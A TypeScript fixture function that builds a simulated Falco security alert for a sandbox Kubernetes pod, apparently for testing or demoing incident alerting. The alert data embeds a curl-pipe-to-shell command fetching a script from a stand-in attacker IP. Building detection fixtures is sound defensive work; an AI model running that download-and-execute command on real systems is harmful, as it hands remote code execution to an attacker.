import { SEED } from "./seed-names";

// What Falco would report when someone opens a shell in the sandbox's
// compromised pod: a falcosidekick webhook payload, priority Critical.
export function sandboxFalcoEvent(now = new Date()) {
  const { namespace, pod, node, suspiciousContainer } = SEED.suspect;
  const time = now.toISOString();
  return {
    uuid: crypto.randomUUID(),
    output: `${time.slice(11, 23)}000000: Critical A shell was spawned in a container with an attached terminal (user=root process=sh command=sh -c "curl -s http://203.0.113.50/x | sh" container_name=${suspiciousContainer} k8s_ns=${namespace} k8s_pod=${pod})`,
    priority: "Critical",
    rule: "Terminal shell in container",
    time,
    output_fields: {
      "container.id": "5f3c1a9b2e7d",
      "container.image.repository": "docker.io/kdevtools/metrics-agent",
      "container.name": suspiciousContainer,
      "evt.type": "execve",
      "k8s.ns.name": namespace,
      "k8s.pod.name": pod,
      "proc.cmdline": 'sh -c "curl -s http://203.0.113.50/x | sh"',
      "proc.name": "sh",
      "user.name": "root",
      cluster: "sandbox",
    },
    source: "syscall",
    tags: ["container", "shell", "mitre_execution", "T1059"],
    hostname: node,
  };
}
